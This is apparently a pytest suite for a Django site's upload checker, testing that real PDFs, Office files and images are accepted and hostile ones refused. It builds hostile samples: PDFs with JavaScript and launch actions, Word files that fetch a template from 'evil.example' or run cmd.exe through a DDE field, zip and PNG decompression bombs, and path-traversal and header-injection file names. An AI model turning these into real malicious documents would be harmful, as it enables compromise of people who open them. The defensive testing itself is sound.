"""Uploads: honest files come in, hostile ones don't, and whoever uploads reads why."""

import io
import random
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone, translation
from PIL import Image, ImageFile

from jobs import uploads
from jobs.actions import store_bytes, store_upload
from jobs.inspection import images, office, pdf
from jobs.models import StoredFile
from jobs.uploads import check_upload, clean_name
from jobs.views import send_file
from kit.refusals import Refused
from tests.factories.accounts import UserFactory
from tests.jobs import samples


def check(name: str, content: bytes) -> uploads.Checked:
    """Upload ``content`` as ``name``."""
    return check_upload(SimpleUploadedFile(name, content))


def refusal(name: str, content: bytes) -> str:
    """The sentence with which an upload is refused."""
    with pytest.raises(Refused) as caught:
        check(name, content)
    return str(caught.value.message)


@pytest.mark.parametrize(
    ("name", "make", "media_type"),
    [
        ("a.pdf", samples.pdf, "application/pdf"),
        ("packed.PDF", lambda: samples.pdf(packed=True), "application/pdf"),
        ("a.docx", samples.word, uploads.WORD),
        ("a.xlsx", samples.excel, uploads.EXCEL),
        ("rows.xlsx", samples.excel_of_many_rows, uploads.EXCEL),
        ("a.png", samples.picture, "image/png"),
        ("a.jpg", lambda: samples.picture("JPEG"), "image/jpeg"),
        ("a.JPEG", lambda: samples.picture("JPEG"), "image/jpeg"),
    ],
)
def test_honest_file_comes_in(name, make, media_type):
    checked = check(name, make())
    assert (checked.content, checked.media_type) == (make(), media_type)


@pytest.mark.parametrize("planted", ["open_action", "javascript_tree", "launch", "attached", "link_script", "submits"])
@pytest.mark.parametrize("packed", [False, True])
def test_pdf_that_acts_is_refused(planted, packed):
    assert refusal("a.pdf", samples.pdf(**{planted: True, "packed": packed})) == str(pdf.ACTIVE)


def test_pdf_with_names_spelt_otherwise_is_refused():
    content = samples.pdf(open_action=True).replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/J#53")
    assert refusal("a.pdf", content) == str(pdf.ACTIVE)


def test_pdf_that_only_speaks_of_scripts_comes_in():
    document = pikepdf.open(io.BytesIO(samples.pdf()))
    document.docinfo["/Title"] = "About /JavaScript and /Launch (in reports)"
    out = io.BytesIO()
    document.save(out)
    check("a.pdf", out.getvalue())


def test_pdf_with_a_password_is_refused_with_what_to_do():
    assert refusal("a.pdf", samples.pdf(locked=True)) == str(pdf.PROTECTED)


def test_pdf_whose_object_stream_explodes_is_refused_quickly():
    bomb = zlib.compress(bytes(200 * 1024 * 1024), 9)
    content = samples.pdf().replace(
        b"%%EOF",
        b"9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
        + bomb
        + b"\nendstream\nendobj\n%%EOF",
    )
    started = time.monotonic()
    assert refusal("a.pdf", content) == str(pdf.BOMB)
    assert time.monotonic() - started < 5


@pytest.mark.parametrize(
    ("add", "sentence"),
    [
        ({"word/vbaProject.bin": b"x"}, office.MACROS),
        ({"word/VBAPROJECT.BIN": b"x"}, office.MACROS),
        ({"word/embeddings/oleObject1.bin": b"x"}, office.OBJECTS),
        ({"word/activeX/activeX1.xml": b"<a/>"}, office.OBJECTS),
        ({"word/embeddings/setup.exe": b"MZ"}, office.MACROS),
        ({"word/big.xml": b"<a>" + bytes(60 * 1024 * 1024)}, office.BOMB),
        ({f"word/p{n}.xml": b"<a/>" for n in range(3100)}, office.BOMB),
        ({"word/x.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, office.DAMAGED),
        ({"../../etc/cron.d/x": b"x"}, office.DAMAGED),
        ({"word/embeddings/a.xlsx": b"PK not a sheet"}, office.DAMAGED),
    ],
)
def test_word_file_with_something_in_it_is_refused(add, sentence):
    assert refusal("a.docx", samples.rezipped(samples.word(), add=add)) == str(sentence)


def test_word_file_with_the_sheet_behind_its_chart_comes_in():
    check(
        "a.docx", samples.rezipped(samples.word(), add={"word/embeddings/Microsoft_Excel_Sheet.xlsx": samples.excel()})
    )


def test_sheet_within_a_sheet_within_a_file_is_refused():
    inner = samples.rezipped(samples.excel(), add={"xl/embeddings/a.xlsx": samples.excel()})
    content = samples.rezipped(samples.word(), add={"word/embeddings/a.xlsx": inner})
    assert refusal("a.docx", content) == str(office.OBJECTS)


def test_word_file_that_says_macro_in_its_types_is_refused():
    change = {
        "[Content_Types].xml": (
            b"wordprocessingml.document.main+xml",
            b"wordprocessingml.document.macroEnabled.main+xml",
        )
    }
    assert refusal("a.docx", samples.rezipped(samples.word(), change=change)) == str(office.MACROS)


def test_word_file_that_fetches_its_template_is_refused():
    far = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    change = {"word/_rels/document.xml.rels": (b"</Relationships>", far)}
    assert refusal("a.docx", samples.rezipped(samples.word(), change=change)) == str(office.FAR)


def test_word_file_with_an_ordinary_link_comes_in():
    link = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" '
        b'Target="https://cdc.example/" TargetMode="External"/></Relationships>'
    )
    change = {"word/_rels/document.xml.rels": (b"</Relationships>", link)}
    check("a.docx", samples.rezipped(samples.word(), change=change))


def test_word_file_that_runs_a_command_by_field_is_refused():
    field = (
        b"<w:p><w:r><w:instrText>DDEA</w:instrText></w:r>"
        b"<w:r><w:instrText>UTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:body>"
    )
    change = {"word/document.xml": (b"</w:body>", field)}
    assert refusal("a.docx", samples.rezipped(samples.word(), change=change)) == str(office.OBJECTS)


def test_parts_that_overlap_are_refused():
    """A bomb whose members share the same packed bytes: each alone is harmless."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", office.WORD_MAIN)
        archive.writestr("word/document.xml", random.Random(1).randbytes(900_000))
        first = archive.infolist()[-1]
        for number in range(20):
            twin = zipfile.ZipInfo(f"word/p{number}.xml")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, name, getattr(first, name))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    assert refusal("a.docx", out.getvalue()) == str(office.BOMB)


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.pdf", b"", uploads.EMPTY),
        ("a.exe", b"MZ" + bytes(100), uploads.WRONG_KIND),
        ("a.pdf.exe", b"%PDF-1.7", uploads.WRONG_KIND),
        ("a", b"%PDF-1.7", uploads.WRONG_KIND),
        ("a.html", b"<script>", uploads.WRONG_KIND),
        ("a.svg", b"<svg onload='x'/>", uploads.WRONG_KIND),
        ("a.docm", b"PK\x03\x04", uploads.MACROS),
        ("a.xlsm", b"PK\x03\x04", uploads.MACROS),
        ("a.pdf", b"<html><script>alert(1)</script></html>", uploads.MISMATCH),
        ("a.png", b"%PDF-1.7", uploads.MISMATCH),
        ("a.docx", uploads.OLD_OFFICE + bytes(100), uploads.PROTECTED),
        ("a.docx", b"PK\x03\x04" + bytes(100), office.DAMAGED),
        ("a.pdf", b"%PDF-1.7 %%EOF", pdf.DAMAGED),
        ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(50), images.DAMAGED),
    ],
)
def test_file_that_is_not_what_it_says_is_refused(name, content, sentence):
    assert refusal(name, content) == str(sentence)


def test_word_file_named_as_sheet_is_refused():
    assert refusal("a.xlsx", samples.word()) == str(office.NOT_EXCEL)


def test_too_large_file_is_refused_with_the_limit(settings):
    settings.UPLOAD_MAX_BYTES = 1024 * 1024
    assert "1 MB" in refusal("a.png", samples.picture() + bytes(1024 * 1024))


def png_of(width: int, height: int) -> bytes:
    """A small file that claims a huge picture, all of it there."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((width // 8 + 1) * height), 9)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_picture_of_too_many_pixels_is_refused_unopened():
    assert refusal("a.png", png_of(20_000, 20_000)) == str(images.TOO_MANY_PIXELS)


def test_cut_off_picture_is_refused(monkeypatch):
    # As WeasyPrint sets it for the whole process when the first PDF is made.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert refusal("a.jpg", samples.picture("JPEG")[:9000]) == str(images.DAMAGED)
    assert refusal("a.png", samples.picture()[:9000]) == str(images.DAMAGED)


def test_picture_with_a_program_behind_it_is_refused():
    assert refusal("a.png", samples.picture() + b"MZ program") == str(images.DAMAGED)


def test_large_photograph_comes_in():
    out = io.BytesIO()
    Image.new("RGB", (6000, 4000), "white").save(out, "JPEG")
    check("a.jpg", out.getvalue())


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("កំណត់ហេតុកិច្ចប្រជុំ.pdf", "កំណត់ហេតុកិច្ចប្រជុំ.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\x\\minutes.docx", "minutes.docx"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
        (".pdf", "file.pdf"),
    ],
)
def test_names_are_cleaned(name, kept):
    assert clean_name(name) == kept


def test_khmer_name_of_200_characters_is_kept_whole():
    stem = "ក្រុមប្រឹក្សាអភិវឌ្ឍន៍កម្ពុជា"
    name = (stem * 10)[:200] + ".pdf"
    assert clean_name(name) == name


def test_sentences_are_in_khmer_for_khmer_readers():
    with translation.override("km"):
        for sentence in (
            uploads.WRONG_KIND,
            uploads.EMPTY,
            uploads.MISMATCH,
            pdf.ACTIVE,
            office.MACROS,
            images.DAMAGED,
        ):
            assert any("\u1780" <= character <= "\u17ff" for character in str(sentence)), str(sentence)


@pytest.mark.django_db
def test_stored_upload_lies_under_its_own_hash_and_is_written_once():
    user = UserFactory()
    first, second = (
        store_upload(upload=SimpleUploadedFile(name, samples.pdf()), by=user, now=timezone.now())
        for name in ("របាយការណ៍.pdf", "again.pdf")
    )
    assert first.path == second.path
    assert first.path.name == first.sha256
    assert first.read() == samples.pdf()
    assert (first.original_name, second.original_name) == ("របាយការណ៍.pdf", "again.pdf")
    assert [p for p in first.path.parent.iterdir() if p.name.startswith(".draft")] == []


@pytest.mark.django_db
def test_refused_upload_leaves_nothing(settings):
    with pytest.raises(Refused):
        store_upload(upload=SimpleUploadedFile("a.exe", b"MZ"), by=UserFactory(), now=timezone.now())
    assert not StoredFile.objects.exists()
    assert not list(settings.MEDIA_ROOT.glob("**/*")) if settings.MEDIA_ROOT.exists() else True


@pytest.mark.django_db
def test_file_goes_out_sandboxed_under_its_khmer_name():
    file = store_bytes(
        content=samples.pdf(), name='កំណត់ហេតុ"\r\nX: y.pdf', media_type="application/pdf", by=None, now=timezone.now()
    )
    response = send_file(file)
    assert response["Content-Disposition"].startswith('attachment; filename="')
    assert "filename*=UTF-8''%E1%9E%80" in response["Content-Disposition"]
    assert "\n" not in response["Content-Disposition"]
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == samples.pdf()
    response.close()


@pytest.mark.django_db
def test_only_pdf_and_pictures_are_ever_shown_in_place():
    sheet = store_bytes(content=b"x", name="a.xlsx", media_type=uploads.EXCEL, by=None, now=timezone.now())
    paper = store_bytes(content=b"y", name="a.pdf", media_type="application/pdf", by=None, now=timezone.now())
    for file, kind in ((sheet, "attachment"), (paper, "inline")):
        response = send_file(file, inline=True)
        assert response["Content-Disposition"].startswith(kind)
        response.close()


def fuzz(number: int) -> None:
    """``number`` mangled files: each is taken or refused, nothing else; 99 of 100 within a tenth of a second."""
    honest = [
        ("a.pdf", samples.pdf()),
        ("a.pdf", samples.pdf(packed=True)),
        ("a.docx", samples.word()),
        ("a.xlsx", samples.excel()),
        ("a.png", samples.picture()),
        ("a.jpg", samples.picture("JPEG")),
    ]
    hostile = [samples.pdf(**{name: True}) for name in ("open_action", "launch", "attached")]
    times, sentences = [], set()
    for seed in range(number):
        luck = random.Random(seed)
        name, content = luck.choice(honest)
        content = samples.mangled(luck.choice(hostile) if name == "a.pdf" and seed % 2 else content, seed)
        if seed % 7 == 0:
            name = luck.choice(honest)[0]
        started = time.perf_counter()
        try:
            checked = check(name, content)
        except Refused as refused:
            sentences.add(str(refused.message))
        else:
            assert checked.content.startswith(uploads.KINDS[name.split(".")[-1]].magic)
            if name == "a.pdf":
                with pikepdf.open(io.BytesIO(content), suppress_warnings=True) as document:
                    text = b"".join(
                        thing.unparse(resolved=True)
                        for thing in document.objects
                        if isinstance(thing, (pikepdf.Dictionary, pikepdf.Array))
                    )
                assert not any(word in text for word in (b"/JavaScript", b"/Launch", b"/EmbeddedFile")), seed
        times.append(time.perf_counter() - started)
    assert "" not in sentences
    times.sort()
    slow = times[int(len(times) * 0.99)]
    assert slow < 0.1 or number < 1000, f"p99 is {slow * 1000:.0f} ms"


def test_mangled_files_are_taken_or_refused_and_nothing_else():
    fuzz(300)


@pytest.mark.soak
def test_ten_thousand_mangled_files():
    fuzz(10_000)
